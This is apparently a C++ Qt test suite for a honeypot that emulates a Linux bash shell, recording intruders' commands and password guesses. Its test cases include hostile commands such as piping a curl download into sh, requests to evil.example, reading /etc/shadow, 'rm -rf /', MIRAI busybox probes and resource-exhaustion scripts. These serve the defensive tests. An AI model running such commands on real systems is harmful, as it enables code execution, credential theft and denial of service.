// SPDX-License-Identifier: GPL-3.0-or-later
// contract: X-01, C-02
#include "shellfixture.h"

#include <QTest>

#include <ctime>

using namespace decoyd::shell;
using namespace shelltest;

namespace {

/// What one hostile script may cost; a sanitizer makes everything several times slower.
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
constexpr double kWorkLimitSeconds = 60;
#else
constexpr double kWorkLimitSeconds = 5;
#endif

void add(const char *name, const char *script, const char *expected, const char *user = "root")
{
    QTest::newRow(name) << std::string(script) << std::string(expected) << std::string(user);
}

} // namespace

Q_DECLARE_METATYPE(std::string)

class ShellTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void printsExactly_data()
    {
        QTest::addColumn<std::string>("script");
        QTest::addColumn<std::string>("expected");
        QTest::addColumn<std::string>("user");

        add("quotes", "echo 'a  $b' \"c  d\" e\\ f", "a  $b c  d e f\n");
        add("variables", "a=x; b=\"$a y\"; echo $b ${#b} \"${c:-none}\" ${b%y}z",
            "x y 3 none x z\n");
        add("word splitting", "a='1  2'; printf '<%s>' $a; echo; printf '<%s>' \"$a\"",
            "<1><2>\n<1  2>");
        add("exit status", "false; echo $?; true && echo a || echo b; false || echo c",
            "1\na\nc\n");
        add("substitution", "echo $(echo a $(echo b)) `echo c`", "a b c\n");
        add("arithmetic", "echo $((2*(3+4)%5)) $((1<<4)) $((7/2)) $((-3))", "4 16 3 -3\n");
        add("braces", "echo {a,b}{1..3} x{,y}", "a1 a2 a3 b1 b2 b3 x xy\n");
        add("globs", "cd /etc/cron.daily; echo *; echo no*match",
            "apt-compat logrotate\nno*match\n");
        add("redirects", "echo a > /tmp/x; echo b >> /tmp/x; cat < /tmp/x", "a\nb\n");
        add("error redirect", "ls /nope 2>/dev/null; ls /nope 2>&1 | wc -l", "1\n");
        add("both", "ls /nope / &> /tmp/o; head -1 /tmp/o",
            "ls: cannot access '/nope': No such file or directory\n");
        add("here string", "cat <<< \"a $((1+1))\"", "a 2\n");
        add("here text", "cat << EOF\na $((1+1))\n'b'\nEOF", "a 2\n'b'\n");
        add("here text, literal", "cat << 'EOF'\n$x `y`\nEOF", "$x `y`\n");
        add("continuation", "for i in a b\ndo\necho $i\ndone", "a\nb\n");
        add("while", "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done", "1\n2\n3\n");
        add("read", "printf 'a b c\\nd\\n' | while read x y; do echo \"$y-$x\"; done",
            "b c-a\n-d\n");
        add("case", "case foo.sh in *.txt) echo t;; *.sh|*.py) echo s;; esac", "s\n");
        add("if", "if grep -q root /etc/passwd; then echo y; else echo n; fi", "y\n");
        add("function", "f() { echo \"$1/$#\"; return 4; }; f a b; echo $?", "a/2\n4\n");
        add("subshell", "x=1; (x=2; cd /tmp; echo $x); echo $x; pwd", "2\n1\n/root\n");
        add("group", "{ echo a; echo b; } | wc -l", "2\n");
        add("break",
            "for i in 1 2 3 4; do [ $i = 2 ] && continue; [ $i = 4 ] && break; echo $i; done",
            "1\n3\n");
        add("comment", "echo a # b", "a\n");
        add("not found", "foo", "-bash: foo: command not found\n");
        add("syntax", "echo a; ; echo b", "-bash: syntax error near unexpected token `;'\n");
        add("no file", "cat /nope", "cat: /nope: No such file or directory\n");
        add("denied", "cat /etc/shadow", "cat: /etc/shadow: Permission denied\n", "ubuntu");
        add("denied write", "echo x > /etc/passwd", "-bash: /etc/passwd: Permission denied\n",
            "ubuntu");
        add("cd error", "cd /nope", "-bash: cd: /nope: No such file or directory\n");
        add("cd minus", "cd /etc; cd /tmp; cd -", "/etc\n");
        add("history expansion", "echo hi\n!!", "hi\n");
        add("argument expansion", "echo a b\necho !$", "b\n");

        add("id", "id", "uid=0(root) gid=0(root) groups=0(root)\n");
        add("id user", "id",
            "uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu),4(adm),24(cdrom),27(sudo)\n",
            "ubuntu");
        add("uname", "uname -srm", "Linux 5.10.0-28-amd64 x86_64\n");
        add("hostname", "hostname; cat /etc/hostname", "web01\nweb01\n");
        add("hosts", "grep db01 /etc/hosts", "10.0.1.20\tdb01\n");
        add("os-release", ". /etc/os-release; grep ^ID= /etc/os-release", "ID=debian\n");
        add("uptime file", "cut -d. -f1 /proc/uptime", "100000\n");
        add("date", "date +%Y-%m-%d; date -u +%s", "2026-11-21\n1795300000\n");
        add("ls -l", "echo abc > /tmp/f; chmod 640 /tmp/f; ls -l /tmp/f",
            "-rw-r----- 1 root root 4 Nov 21 22:26 /tmp/f\n");
        add("ls -a", "mkdir /tmp/d; cd /tmp/d; touch .b a; ls -a1", ".\n..\na\n.b\n");
        add("suid", "stat -c '%A %U' /usr/bin/sudo", "-rwsr-xr-x root\n");
        add("links", "ln -s /etc/hostname /tmp/l; cat /tmp/l; readlink /tmp/l",
            "web01\n/etc/hostname\n");
        add("cp mv rm", "cd /tmp; echo 1 > a; cp a b; mv b c; rm a; ls -1 | head -1; cat c",
            "c\n1\n");
        add("rm -r", "mkdir -p /tmp/p/q/r; touch /tmp/p/q/f; rm -rf /tmp/p; ls /tmp/p",
            "ls: cannot access '/tmp/p': No such file or directory\n");
        add("rm /", "rm -rf /",
            "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to "
            "override this failsafe\n");
        add("find", "find /etc -name 'ssh*' -type d; find / -perm -4000 2>/dev/null | wc -l",
            "/etc/ssh\n3\n");
        add("find exec", "find /etc/cron.d -type f -exec head -1 {} \\;",
            "# nightly dump, see /opt/backup/README\n");
        add("xargs", "echo a b c | xargs -n1 echo -", "- a\n- b\n- c\n");
        add("grep", "printf 'Ab\\ncd\\nab\\n' | grep -in AB", "1:Ab\n3:ab\n");
        add("grep -E", "printf 'foo1\\nbar\\n' | grep -Eo '[a-z]+[0-9]'", "foo1\n");
        add("grep -v -c", "grep -vc nologin /etc/passwd", "5\n");
        add("cut sort uniq", "printf 'b:1\\na:2\\nb:3\\n' | cut -d: -f1 | sort | uniq -c",
            "      1 a\n      2 b\n");
        add("sort -n", "printf '10\\n9\\n2\\n' | sort -rn", "10\n9\n2\n");
        add("tr", "echo Hello | tr a-z A-Z | tr -d L", "HEO\n");
        add("sed", "echo 'a/b/a' | sed 's/a/X/g; s|/|-|'", "X-b/X\n");
        add("sed groups", "echo key=val | sed -E 's/(.*)=(.*)/\\2=\\1/'", "val=key\n");
        add("sed -n", "sed -n '1p;$p' /etc/crontab | wc -l", "2\n");
        add("sed -i", "echo one > /tmp/s; sed -i 's/one/two/' /tmp/s; cat /tmp/s", "two\n");
        add("awk", "echo 'a b c' | awk '{print $2, NF, $NF}'", "b 3 c\n");
        add("awk -F", "head -1 /etc/passwd | awk -F: '{print $1\":\"$3}'", "root:0\n");
        add("awk filter", "awk -F: '$3>=1000 && $3<2000 {print $1}' /etc/passwd | head -1",
            "ubuntu\n");
        add("awk sum", "printf '1\\n2\\n' | awk '{s+=$1} END {print s}'", "3\n");
        add("head tail", "seq 1 9 | head -n 4 | tail -n 2", "3\n4\n");
        add("wc", "printf 'a b\\nc\\n' | wc", "      2       3       6\n");
        add("wc -l file", "wc -l /etc/hostname", "1 /etc/hostname\n");
        add("digests", "printf abc | md5sum; printf abc | sha256sum",
            "900150983cd24fb0d6963f7d28e17f72  -\n"
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n");
        add("base64", "echo hello | base64; echo aGVsbG8K | base64 -d", "aGVsbG8K\nhello\n");
        add("xxd", "printf AB | xxd", "00000000: 4142                                     AB\n");
        add("elf", "head -c 4 /bin/ls | xxd -p", "7f454c46\n");
        add("gzip", "echo data > /tmp/g; gzip /tmp/g; zcat /tmp/g.gz; file /tmp/g.gz",
            "data\n/tmp/g.gz: gzip compressed data, from Unix\n");
        add("tar", "cd /opt; tar czf /tmp/b.tgz backup; tar tzf /tmp/b.tgz | head -2",
            "backup/\nbackup/README\n");
        add("script", "printf '#!/bin/sh\\necho run $1\\n' > /tmp/r; chmod +x /tmp/r; /tmp/r 7",
            "run 7\n");
        add("not executable", "echo x > /tmp/r; /tmp/r", "-bash: /tmp/r: Permission denied\n");
        add("binary", "printf '\\177ELF\\2' > /tmp/m; chmod 777 /tmp/m; /tmp/m",
            "-bash: /tmp/m: cannot execute binary file: Exec format error\n");
        add("sh -c", "sh -c 'echo $0 $1' a b", "a b\n");
        add("busybox", "/bin/busybox MIRAI", "MIRAI: applet not found\n");
        add("which", "which ls ssh nosuch; type cd",
            "/usr/bin/ls\n/usr/bin/ssh\ncd is a shell builtin\n");
        add("env", "FOO=bar env | grep FOO; echo $HOME $USER $PWD", "FOO=bar\n/root root /root\n");
        add("test", "[ -d /etc ] && [ ! -e /nope ] && [ 3 -gt 2 ] && [[ abc == a* ]] && echo ok",
            "ok\n");
        add("crontab", "crontab -l", "no crontab for ubuntu\n", "ubuntu");
        add("ip", "ip -br a | tail -1 | awk '{print $1, $3}'", "eth0 10.0.1.10/24\n");
        add("route", "ip r",
            "default via 10.0.1.1 dev eth0 onlink \n10.0.1.0/24 dev eth0 proto kernel "
            "scope link src 10.0.1.10 \n");
        add("listening", "netstat -tln | grep -c LISTEN", "3\n");
        add("bait", "grep -c PASSWORD= .env; ls -1 *.gz", "3\nbackup.sql.gz\n", "ubuntu");
        add("dump", "zcat /root/backup.sql.gz | grep -c @example.com", "400\n");
        add("proc", "cat /proc/1/comm; ls -d /proc/self", "systemd\n/proc/self\n");
        add("dd", "dd if=/bin/ls bs=4 count=1 2>/dev/null | xxd -p", "7f454c46\n");
    }

    void printsExactly()
    {
        QFETCH(std::string, script);
        QFETCH(std::string, expected);
        QFETCH(std::string, user);
        Shell shell(context(user));
        QCOMPARE(QByteArray::fromStdString(run(shell, script)),
                 QByteArray::fromStdString(expected));
    }

    void isTheSameForTheSameSeed()
    {
        const char *script =
            "ls -laR /home /root /etc; cat /root/notes.txt /etc/shadow; ps aux; free; "
            "last; ip a; df";
        Shell first(context());
        Shell again(context());
        Shell other(context("root", false, 43));
        const std::string seen = run(first, script);
        QVERIFY(seen.size() > 4000);
        QCOMPARE(run(again, script), seen);
        QVERIFY(run(other, script) != seen);
    }

    void observerHearsEverything()
    {
        Recorder recorder;
        ShellContext wanted = context("ubuntu", true);
        wanted.observer = &recorder;
        Shell shell(std::move(wanted));
        run(shell, "cd /tmp\nls | wc");
        QCOMPARE(recorder.commands.size(), std::size_t{2});
        QCOMPARE(recorder.commands[1], std::string("ubuntu(1000) /tmp: ls | wc"));
        Output output = shell.run("sudo id");
        QCOMPARE(output.wait.kind, Wait::Kind::Line);
        QVERIFY(!output.wait.echo);
        QCOMPARE(output.terminal, std::string("[sudo] password for ubuntu: "));
        output = shell.resume("guess");
        QCOMPARE(output.wait.kind, Wait::Kind::Sleep);
        output = shell.resume({});
        QCOMPARE(output.terminal, std::string("Sorry, try again.\n[sudo] password for ubuntu: "));
        output = shell.resume("secret");
        QCOMPARE(output.out, std::string("uid=0(root) gid=0(root) groups=0(root)\n"));
        QCOMPARE(recorder.secrets,
                 (std::vector<std::string>{"sudo ubuntu guess no", "sudo ubuntu secret yes"}));
    }

    void becomesSomebodyElse()
    {
        Shell shell(context("ubuntu", true));
        QCOMPARE(shell.prompt(), std::string("ubuntu@web01:~$ "));
        QCOMPARE(shell.run("su -").wait.kind, Wait::Kind::Line);
        (void)shell.resume("toor");
        QCOMPARE(shell.prompt(), std::string("root@web01:~# "));
        QVERIFY(!shell.run("exit").done);
        QCOMPARE(shell.prompt(), std::string("ubuntu@web01:~$ "));
        QVERIFY(shell.run("exit").done);
    }

    void pipelineWaitsForThePassword()
    {
        Shell shell(context("ubuntu", true));
        QCOMPARE(shell.run("sudo cat /etc/shadow | head -1 | cut -d: -f1; echo after").wait.kind,
                 Wait::Kind::Line);
        QCOMPARE(shell.resume("secret").out, std::string("root\nafter\n"));
    }

    void sleepSplitsTheLine()
    {
        Shell shell(context());
        Output output = shell.run("echo a; sleep 2.5; echo b");
        QCOMPARE(output.out, std::string("a\n"));
        QCOMPARE(output.wait.kind, Wait::Kind::Sleep);
        QCOMPARE(output.wait.milliseconds, 2500);
        output = shell.resume({});
        QCOMPARE(output.out, std::string("b\n"));
        QCOMPARE(output.wait.kind, Wait::Kind::None);
    }

    void networkIsReachedOnlyWhereAllowed()
    {
        Recorder recorder;
        SmallNetwork network;
        ShellContext wanted = context();
        wanted.observer = &recorder;
        wanted.network = &network;
        Shell shell(std::move(wanted));
        QCOMPARE(run(shell, "curl -s http://db01/x.sh | sh"), std::string("pwn\n"));
        QVERIFY(network.sent.starts_with("GET /x.sh HTTP/1.1\r\nHost: db01\r\n"));
        QCOMPARE(run(shell, "wget -q http://10.0.1.20/f; cat f"), std::string("echo pwn\n"));
        QCOMPARE(
            run(shell, "curl http://203.0.113.9/m"),
            std::string(
                "curl: (28) Failed to connect to 203.0.113.9 port 80: Connection timed out\n"));
        QCOMPARE(run(shell, "curl http://evil.example/m"),
                 std::string("curl: (6) Could not resolve host: evil.example\n"));
        QCOMPARE(recorder.downloads,
                 (std::vector<std::string>{
                     "curl http://db01/x.sh fetched", "wget http://10.0.1.20/f fetched",
                     "curl http://203.0.113.9/m denied", "curl http://evil.example/m unresolved"}));
        const std::string scan = run(shell, "nmap -p 22,80 db01");
        QVERIFY2(scan.find("80/tcp    open  http\n") != std::string::npos, scan.c_str());
        QVERIFY(scan.find("22/tcp") == std::string::npos);
        QVERIFY(run(shell, "ping -c 1 db01").find("1 received") != std::string::npos);
        QVERIFY(run(shell, "ping -c 1 files").find("0 received") != std::string::npos);
        QCOMPARE(run(shell, "nc -zv db01 81"),
                 std::string(
                     "nc: connect to db01 (10.0.1.20) port 81 (tcp) failed: Connection refused\n"));
    }

    void writtenFilesAreHandedOutOnce()
    {
        Shell shell(context());
        run(shell, "echo payload > /tmp/p; echo gone > /tmp/q; rm /tmp/q; cp /etc/hosts /tmp/h");
        auto files = shell.files().takeWritten();
        QCOMPARE(files.size(), std::size_t{3});
        QCOMPARE(files[0].path, std::string("/tmp/q"));
        QCOMPARE(files[0].content, std::string("gone\n"));
        QCOMPARE(files[1].content, std::string("payload\n"));
        QVERIFY(shell.files().takeWritten().empty());
    }

    void memoryIsBounded()
    {
        Shell shell(context());
        const std::string printed = run(shell, "dd if=/dev/zero of=/tmp/1 bs=1M count=1 "
                                               "2>/dev/null; for i in 1 2 3 4 5 6; do cp /tmp/1 "
                                               "/tmp/x$i; done");
        QVERIFY2(printed.find("No space left on device") != std::string::npos, printed.c_str());
        QVERIFY(shell.files().used() <= Vfs::kDefaultBudget);
        run(shell, "a=x; while true; do a=$a$a; done");
        QVERIFY(shell.variable("a").size() <= Shell::kMaxValue);
        run(shell, "i=0; while true; do i=$((i+1)); eval v$i=x; done");
        QVERIFY(shell.exported().size() < 2100);
    }

    void workIsBounded_data()
    {
        QTest::addColumn<std::string>("script");
        for (const char *script :
             {"while true; do :; done", "f() { f; }; f", "f() { f | f; }; f",
              "yes | cat | cat > /dev/null",
              "for i in {1..9999}; do for j in {1..9999}; do echo $i$j; done; done",
              "find / -exec find / \\;", "eval 'eval \"eval $x\"'",
              "bash -c 'bash -c \"$0\" \"$0\"' 'bash -c \"$0\" \"$0\"'",
              "echo {1..9}{1..9}{1..9}{1..9}{1..9}{1..9} | wc -c", "x='echo $x'; eval $x",
              "grep -E '((((a*)*)*)*)*b' /etc/passwd",
              "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a|aa)+$^'",
              "nmap -p- 10.0.0.0/8", "seq 1 999999999", "printf '%999999999d' 1 | wc -c",
              "mkdir /tmp/a; while cd /tmp/a && cp -r /tmp/a /tmp/a/a; do :; done",
              ". /dev/stdin <<< '. /dev/stdin'", "echo '. /tmp/s' > /tmp/s; . /tmp/s"})
            QTest::newRow(script) << std::string(script);
    }

    void workIsBounded()
    {
        QFETCH(std::string, script);
        Shell shell(context());
        // Processor time: what else the machine does must not count.
        const std::clock_t start = std::clock();
        const std::string printed = run(shell, script);
        const double seconds = double(std::clock() - start) / CLOCKS_PER_SEC;
        QVERIFY2(seconds < kWorkLimitSeconds, "took too long");
        QVERIFY(printed.size() <= 2 * Shell::kMaxOutput);
        QCOMPARE(run(shell, "echo alive"), std::string("alive\n"));
    }

    void completesWords()
    {
        Shell shell(context());
        std::size_t start = 0;
        QCOMPARE(shell.complete("cat /etc/hostn", 14, start),
                 (std::vector<std::string>{"/etc/hostname"}));
        QCOMPARE(start, std::size_t{4});
        QCOMPARE(shell.complete("unam", 4, start), (std::vector<std::string>{"uname"}));
        QCOMPARE(shell.complete("ls /opt/ba", 10, start),
                 (std::vector<std::string>{"/opt/backup/"}));
    }

    void programsWithoutPermissionStayClosed()
    {
        Shell shell(context("ubuntu"));
        QCOMPARE(run(shell, "cd /root"), std::string("-bash: cd: /root: Permission denied\n"));
        QCOMPARE(run(shell, "cat /root/notes.txt"),
                 std::string("cat: /root/notes.txt: Permission denied\n"));
        QCOMPARE(run(shell, "rm /etc/passwd"),
                 std::string("rm: cannot remove '/etc/passwd': Permission denied\n"));
        QCOMPARE(run(shell, "touch /etc/x"),
                 std::string("touch: cannot touch '/etc/x': Permission denied\n"));
        QCOMPARE(run(shell, "useradd eve"), std::string("-bash: useradd: command not found\n"));
        QCOMPARE(
            run(shell, "/usr/sbin/useradd eve"),
            std::string("useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again "
                        "later.\n"));
    }
};

QTEST_GUILESS_MAIN(ShellTest)
#include "shelltest.moc"
